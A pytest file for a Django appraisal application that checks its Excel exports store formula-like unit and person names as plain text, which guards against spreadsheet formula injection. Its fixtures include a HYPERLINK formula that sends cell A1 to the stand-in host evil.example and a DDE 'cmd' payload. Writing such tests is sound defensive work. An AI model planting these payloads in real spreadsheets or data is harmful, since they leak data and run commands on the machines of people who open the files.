"""Every Excel export writes text as text: a unit or a person named like a formula (``=HYPERLINK(…)``, ``+…``,
``-…``, ``@…``) comes out as a string cell, never a live formula (issue 8, finding 3)."""

import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from thidua.appraisals import services as appraisal_services
from thidua.appraisals.models import Appraisal, Registration, RegistrationLine
from thidua.rules.models import DiscoveryRun

pytestmark = pytest.mark.django_db

FORMULA_NAMES = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1;"Bấm vào đây")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1;2)",
}


@pytest.fixture
def formula_world(facts_world):
    """The unit of division A and four people of it carry names that look like formulas."""
    orgs, people = facts_world["orgs"], facts_world["people"]
    orgs["div_a"].name = FORMULA_NAMES["="]
    orgs["div_a"].save()
    for code, prefix in zip(("CB001", "CB002", "CB003", "CB004"), FORMULA_NAMES, strict=True):
        person = people[code]
        person.family_name, person.middle_name, person.given_name = FORMULA_NAMES[prefix], "", "X"
        person.save()
    return facts_world


def _cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_names_are_text(data: bytes, expected: list[str]) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "an export wrote a formula"
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert value in by_value, value
        assert by_value[value].data_type == "s"


def test_registration_round_export_writes_formula_like_names_as_text(client, formula_world):
    orgs, people = formula_world["orgs"], formula_world["people"]
    round_ = appraisal_services.registration_round_open(
        actor=None, organization=orgs["agency"], year=2026, deadline=date(2026, 1, 31)
    )
    registration = Registration.objects.get(round=round_, unit=orgs["div_a"])
    for code in ("CB001", "CB002", "CB003"):
        RegistrationLine.objects.create(registration=registration, person=people[code], code="LDTT")
    RegistrationLine.objects.create(registration=registration, person=None, code="TTLDTT")
    other = Registration.objects.get(round=round_, unit=orgs["div_b"])
    RegistrationLine.objects.create(registration=other, person=people["CB004"], code="LDTT")
    client.force_login(formula_world["officer"])
    response = client.get(reverse("appraisals:round_export", args=[round_.pk]))
    assert response.status_code == 200
    _assert_names_are_text(
        response.content,
        [FORMULA_NAMES["="], f"{FORMULA_NAMES['+']} X", f"{FORMULA_NAMES['-']} X", f"{FORMULA_NAMES['@']} X"],
    )


def test_discovery_export_writes_formula_like_names_as_text(client, formula_world):
    orgs = formula_world["orgs"]
    findings = [
        {
            "kind": "individual",
            "key": person.pk,
            "name": person.full_name,
            "unit_id": orgs["div_a"].pk,
            "unit": orgs["div_a"].name,
            "code": "CSTDCS",
            "status": "one_step_away",
            "missing": ["=1+1", "@A1"],
            "rule_set": "+2022",
        }
        for person in formula_world["people"].values()
        if person.staff_code != "CB900"
    ]
    run = DiscoveryRun.objects.create(
        organization=orgs["agency"], year=2024, status="done", progress=100, findings=findings
    )
    client.force_login(formula_world["officer"])
    response = client.get(reverse("rules:discovery_export", args=[run.pk]))
    assert response.status_code == 200
    _assert_names_are_text(
        response.content,
        [
            FORMULA_NAMES["="],
            f"{FORMULA_NAMES['=']} X",
            f"{FORMULA_NAMES['+']} X",
            f"{FORMULA_NAMES['-']} X",
            f"{FORMULA_NAMES['@']} X",
            "=1+1; @A1",
            "+2022",
        ],
    )


def test_discovery_export_of_a_real_sweep_writes_names_as_text(
    client, formula_world, django_capture_on_commit_callbacks
):
    from thidua.rules import services as rules_services

    people = formula_world["people"]
    for year in (2022, 2023, 2024):
        for code in ("CB001", "CB002", "CB003", "CB004"):
            Appraisal.objects.create(
                person=people[code],
                year=year,
                rating="HTXSNV",
                organization=people[code].assignments.get().organization,
            )
    with django_capture_on_commit_callbacks(execute=True):
        run = rules_services.discovery_start(
            actor=formula_world["officer"], organization=formula_world["orgs"]["agency"], year=2024
        )
    run.refresh_from_db()
    names = {row["name"] for row in run.findings}
    assert f"{FORMULA_NAMES['=']} X" in names
    client.force_login(formula_world["officer"])
    response = client.get(reverse("rules:discovery_export", args=[run.pk]))
    _assert_names_are_text(response.content, sorted(names))


@pytest.mark.parametrize("kind", ["people", "ratings", "collective"])
def test_facts_exports_write_formula_like_names_as_text(client, formula_world, kind):
    people, orgs = formula_world["people"], formula_world["orgs"]
    for code in ("CB001", "CB002", "CB003"):
        Appraisal.objects.create(
            person=people[code], year=2024, rating="HTTNV", organization=orgs["div_a"], note="=1+2"
        )
    from thidua.appraisals.models import CollectiveAppraisal

    CollectiveAppraisal.objects.create(organization=orgs["div_a"], year=2024, rating="HTXSNV", results="-3")
    client.force_login(formula_world["officer"])
    response = client.get(reverse("exchange:export", args=[kind]))
    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    starting = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert starting and all(c.data_type == "s" for c in starting)


def test_no_export_writes_cells_with_xlsxwriters_guessing_write():
    """xlsxwriter's write/write_row/write_column guess the type (a leading '=' makes a formula): exports go
    through exchange.writer.cell_write instead."""
    root = Path(__file__).resolve().parents[2]
    guessing = re.compile(r"\.write(_row|_column)?\(\s*[^)]")
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if "xlsxwriter" not in text and "row_write" not in text:
            continue
        for number, line in enumerate(text.splitlines(), start=1):
            if guessing.search(line) and "stdout" not in line and "stderr" not in line:
                offenders.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
    assert not offenders, offenders
